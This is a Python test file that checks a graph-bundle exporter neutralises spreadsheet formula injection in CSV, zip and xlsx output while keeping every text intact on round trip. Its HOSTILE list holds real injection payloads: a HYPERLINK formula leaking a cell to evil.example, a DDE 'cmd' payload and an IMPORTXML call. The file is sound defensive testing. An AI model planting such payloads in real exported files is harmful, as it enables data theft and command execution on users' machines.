"""Exported bundles never hold a live formula, and export → read gives back every text.

CSV: a text cell beginning with = + - @ TAB CR (or apostrophes then one of those) gets one
leading ', which the reader removes.  xlsx: every text is a string cell, numbers numbers.
"""

from __future__ import annotations

import csv
import io
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from kizuna.graph.bundle import Bundle
from kizuna.graph.cells import FORMULA_CHARS
from kizuna.loaders.readers import read_bundle
from kizuna.loaders.writers import write_bundle

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-2+3",
    '=IMPORTXML("http://evil.example/x","//a")',
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
    "'plain quote",
    "TAMA協会",
]


def bundle_with(names: list[str], notes: list[str | None]) -> Bundle:
    """A bundle of len(names) organizations in a chain; ``notes`` on the ties."""
    n = len(names)
    nodes = pd.DataFrame(
        {
            "id": [f"n{i}" for i in range(n)],
            "name": names,
            "kind": ["company"] * n,
            "lat": [-33.5 - i for i in range(n)],
            "lon": [139.0] * n,
            "note": names,
        }
    )
    ties = pd.DataFrame(
        {
            "source": [f"n{i}" for i in range(n - 1)],
            "target": [f"n{i + 1}" for i in range(n - 1)],
            "kind": ["joint_rd"] * (n - 1),
            "note": notes[: n - 1],
        }
    )
    with tempfile.TemporaryDirectory() as tmp:  # canonical dtypes: as a reader gives them
        first, _ = read_bundle(write_bundle(Bundle(nodes=nodes, ties=ties), Path(tmp) / "b"))
    return first.with_frames(nodes=_set(first.nodes, nodes), ties=_set(first.ties, ties))


def _set(frame: pd.DataFrame, values: pd.DataFrame) -> pd.DataFrame:
    out = frame.copy()
    for col in ("name", "note"):
        if col in values:
            out[col] = values[col].to_numpy(dtype=object)
    return out


@pytest.mark.parametrize("fmt", ["csv", "zip", "xlsx"])
def test_hostile_text_round_trips_exactly(tmp_path, fmt):
    bundle = bundle_with(HOSTILE, HOSTILE[::-1])
    out = write_bundle(bundle, tmp_path / ("out" if fmt == "csv" else f"out.{fmt}"), fmt=fmt)
    back, problems = read_bundle(out)
    assert not [p for p in problems if p.severity == "error"]
    assert back.nodes["name"].tolist() == HOSTILE
    assert back.nodes["note"].tolist() == HOSTILE
    assert back.ties["note"].tolist() == HOSTILE[::-1][: len(HOSTILE) - 1]
    assert back.nodes["lat"].tolist() == [-33.5 - i for i in range(len(HOSTILE))]


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def _assert_neutral(rows: list[list[str]]) -> None:
    header = rows[0]
    for row in rows[1:]:
        for col, cell in zip(header, row, strict=True):
            if col in ("lat", "lon"):
                float(cell)  # a number, written as a number (negative ones too)
            else:
                assert not cell or cell[0] not in FORMULA_CHARS, (col, cell)


def test_csv_cells_are_neutralised(tmp_path):
    out = write_bundle(bundle_with(HOSTILE, HOSTILE), tmp_path / "out")
    rows = _csv_rows((out / "nodes.csv").read_bytes())
    _assert_neutral(rows)
    names = [r[rows[0].index("name")] for r in rows[1:]]
    assert names[:3] == [f"'{HOSTILE[0]}", "'=cmd|' /C calc'!A0", "'@SUM(1)"]
    assert names[HOSTILE.index("'=1+1")] == "''=1+1"
    assert names[HOSTILE.index("'plain quote")] == "'plain quote"  # not formula-like: as is
    assert [r[rows[0].index("lat")] for r in rows[1:3]] == ["-33.5", "-34.5"]
    _assert_neutral(_csv_rows((out / "ties.csv").read_bytes()))


def test_zip_cells_are_neutralised(tmp_path):
    out = write_bundle(bundle_with(HOSTILE, HOSTILE), tmp_path / "out.zip")
    with zipfile.ZipFile(out) as zf:
        for name in ("nodes.csv", "ties.csv"):
            _assert_neutral(_csv_rows(zf.read(name)))


def test_xlsx_cells_are_strings_and_numbers_numbers(tmp_path):
    out = write_bundle(bundle_with(HOSTILE, HOSTILE), tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(out)
    sheet = book["nodes"]
    header = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        for col, cell in zip(header, row, strict=True):
            assert cell.data_type != "f", (col, cell.value)
            if col in ("lat", "lon"):
                assert cell.data_type == "n" and isinstance(cell.value, int | float)
            else:
                assert cell.data_type == "s"
    names = [unescape(r[header.index("name")].value) for r in sheet.iter_rows(min_row=2)]
    assert names == HOSTILE  # no apostrophe added in a workbook: the cell is typed text
    for row in book["ties"].iter_rows():
        assert all(c.data_type != "f" for c in row)


RISKY_START = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "''+", "'\t"])
#: Any text a name or note may hold (no NUL, no lone surrogate: not valid in a bundle).
ANY_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"))
CELL = st.builds(lambda a, b: a + b, RISKY_START, ANY_TEXT).filter(bool)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(CELL, min_size=2, max_size=6), st.sampled_from(["csv", "zip", "xlsx"]))
def test_any_text_round_trips_through_export_and_read(names, fmt):
    bundle = bundle_with(names, names[::-1])
    with tempfile.TemporaryDirectory() as tmp:
        out = write_bundle(bundle, Path(tmp) / ("out" if fmt == "csv" else f"out.{fmt}"), fmt=fmt)
        back, _ = read_bundle(out)
    assert back.nodes["name"].tolist() == names
    assert back.ties["note"].tolist() == names[::-1][: len(names) - 1]
